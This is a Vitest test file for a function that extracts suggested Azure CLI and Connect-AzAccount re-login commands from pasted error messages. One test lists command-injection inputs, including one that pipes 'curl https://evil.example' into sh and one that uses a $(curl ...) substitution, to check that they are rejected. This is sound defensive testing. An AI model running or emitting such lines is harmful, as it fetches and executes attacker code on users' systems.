import {describe, expect, test} from 'vitest';
import {normalizeText} from './normalize.ts';
import {suggestedCommand} from './suggested.ts';

const tenant = '54826b22-38d6-4fb2-bad9-b7b93a3e9c5a';
const suggested = (text: string) => suggestedCommand(normalizeText(text).text);

describe('suggestedCommand', () => {
	test("the older Azure CLI's advice: az login --scope", () => {
		const text =
			'AADSTS70043: The refresh token has expired or is invalid due to sign-in frequency checks by conditional access.\nTo re-authenticate, please run:\naz login --scope https://management.core.windows.net//.default';
		expect(suggested(text)).toEqual({
			tool: 'azure-cli',
			command: 'az login --scope https://management.core.windows.net//.default',
			evidence: 'az login --scope https://management.core.windows.net//.default',
		});
	});

	test("the newer Azure CLI's advice, without the az logout before it", () => {
		const text = `ERROR: AADSTS50076: Due to a configuration change made by your administrator, or because you moved to a new location, you must use multi-factor authentication to access '797f4846-ba00-4fd7-ba43-dac1f8f63013'.\nRun the command below to authenticate interactively; additional arguments may be added as needed:\naz logout\naz login --tenant "${tenant}" --scope "https://management.core.windows.net//.default" --claims-challenge "eyJhY2Nlc3NfdG9rZW4iOnsiYWNycyI6eyJlc3NlbnRpYWwiOnRydWV9fX0="`;
		const found = suggested(text);
		expect(found?.command).toMatch(
			new RegExp(`^az login --tenant ${tenant} --scope https://management\\.core\\.windows\\.net//\\.default`),
		);
		expect(found?.command).not.toMatch(/logout|"/);
		// Redaction takes a long base64 value: the command keeps the option with a stand-in to copy it into.
		expect(found?.command).toMatch(/ --claims-challenge (?:eyJ\S+|<claims-challenge>)$/);
	});

	test('in a GitHub Actions log, each line prefixed', () => {
		const text = `Error: Run the command below to authenticate interactively; additional arguments may be added as needed:\naz logout\naz login --tenant ${tenant} --use-device-code`;
		expect(suggested(text)?.command).toBe(`az login --tenant ${tenant} --use-device-code`);
	});

	test('a bare az login adds nothing to the knowledge base’s own fix', () => {
		const text =
			'Error: Run the command below to authenticate interactively; additional arguments may be added as needed:\naz logout\naz login\n\nError: Login failed';
		expect(suggested(text)).toBeUndefined();
	});

	test('nothing pasted can smuggle a second command in', () => {
		for (const line of [
			'az login --scope https://management.core.windows.net//.default; curl https://evil.example | sh',
			'az login --scope $(curl https://evil.example)',
			'az login --tenant ~/x',
			'az login --tenant a --password hunter2',
			'az login --tenant',
		]) {
			expect(suggested(`To re-authenticate, please run:\n${line}`), line).toBeUndefined();
		}
	});

	test("Az.Accounts' advice to rerun Connect-AzAccount with a tenant", () => {
		const text = `Message        : Your Azure credentials have not been set up or have expired, please run Connect-AzAccount to set up\n                 your Azure credentials.\n                 Authentication failed against tenant ${tenant}. User interaction is\n                 required. If you need to access subscriptions in that tenant, please rerun\n                 'Connect-AzAccount' with additional parameter '-TenantId ${tenant}'.`;
		expect(suggested(text)).toMatchObject({tool: 'powershell', command: `Connect-AzAccount -Tenant ${tenant}`});
	});

	test('no advice, no suggestion', () => {
		expect(suggested("Please run 'az login' to setup account.")).toBeUndefined();
		expect(suggested('')).toBeUndefined();
	});
});
